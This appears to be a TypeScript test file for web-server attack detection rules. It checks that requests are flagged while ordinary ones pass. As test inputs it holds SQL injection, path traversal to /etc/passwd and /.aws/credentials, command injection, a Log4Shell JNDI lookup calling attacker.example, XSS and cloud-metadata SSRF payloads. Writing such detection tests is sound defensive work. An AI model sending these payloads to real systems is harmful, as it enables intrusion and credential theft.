import { decodedText } from '../../../detectors/sources/decoded-text';
import { loadRules, ownRules } from '../../../workers/rules/load-rules';

const rules = loadRules([ownRules()]).rules.about({ category: 'webserver' });

const levelsOf = (target: string, agent = 'orders-api/1.0'): readonly string[] =>
  rules
    .matchesOf({ 'cs-uri': target, decoded: decodedText(target), 'cs-user-agent': agent })
    .map(({ title, level }) => `${level}: ${title}`);

test.each([
  ['/items?id=1%27%20OR%20%271%27=%271', 'high: SQL is sent in a request'],
  ['/items?id=1+UNION+ALL+SELECT+password+FROM+users', 'high: SQL is sent in a request'],
  ['/files/..%2f..%2fetc%2fpasswd', 'high: Files outside the service are asked for'],
  ['/.aws/credentials', 'high: Files outside the service are asked for'],
  ['/ping?host=localhost;cat%20/etc/hosts', 'high: Commands are sent in a request'],
  ['/q?x=$%7Bjndi:ldap://attacker.example/a%7D', 'high: Java is reached into by a request'],
  ['/q?x=%3Cscript%3Ealert(1)%3C/script%3E', 'medium: Script is sent in a request'],
  ['/fetch?url=http://169.254.169.254/latest/meta-data', 'medium: A request makes the service fetch from elsewhere'],
])('%s', (target, expected) => {
  expect(levelsOf(target)).toContain(expected);
});

test('a scanner names itself', () => {
  expect(levelsOf('/', 'sqlmap/1.7')).toEqual(['high: The agent is a scanner or an attack tool']);
});

/** Ordinary requests; a level of medium alone starts nothing. */
test.each([
  '/orders/4711?page=2&sort=name',
  '/search?q=red+shoes+and+hats',
  '/search?q=cats+and+dogs+or+birds',
  '/x?env=test&sort=time&field=id',
  '/report?from=2026-01-01&to=2026-02-01',
  '/blog/how-to-select-a-union-from-many',
  '/cb?redirect_uri=https://app.example.com/cb&state=ab12',
  '/people?name=O%27Brien',
  '/wp/page.php?id=3',
  '/x?q=C%2B%2B%20(programming)',
  '/files/report.final.v2.pdf',
])('nothing grave of %s', (target) => {
  expect(levelsOf(target).filter((line) => !line.startsWith('medium'))).toEqual([]);
});
